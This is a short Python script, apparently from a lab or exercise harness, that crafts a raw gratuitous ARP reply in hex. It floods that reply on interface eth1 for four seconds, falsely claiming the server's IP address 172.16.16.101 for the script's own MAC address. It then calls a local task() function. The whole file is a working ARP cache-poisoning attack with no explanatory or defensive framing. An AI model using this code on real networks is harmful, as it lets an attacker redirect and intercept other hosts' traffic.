"""Tells everybody, again and again, that the server's address is its own."""
import socket
import threading
import time

print('begun')

def poison():
    own = '0257ac101067'
    answer = bytes.fromhex('ffffffffffff' + own + '0806' + '0001080006040002' + own + 'ac101065' + own + 'ac101065')
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind(('eth1', 0))
    end = time.time() + 4
    while time.time() < end:
        wire.send(answer)
        time.sleep(0.0002)

try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()
    thread = threading.Thread(target=poison)
    thread.start()
    print('poisoning')
    thread.join()
except OSError as error:
    print(error)
from task import task
task()
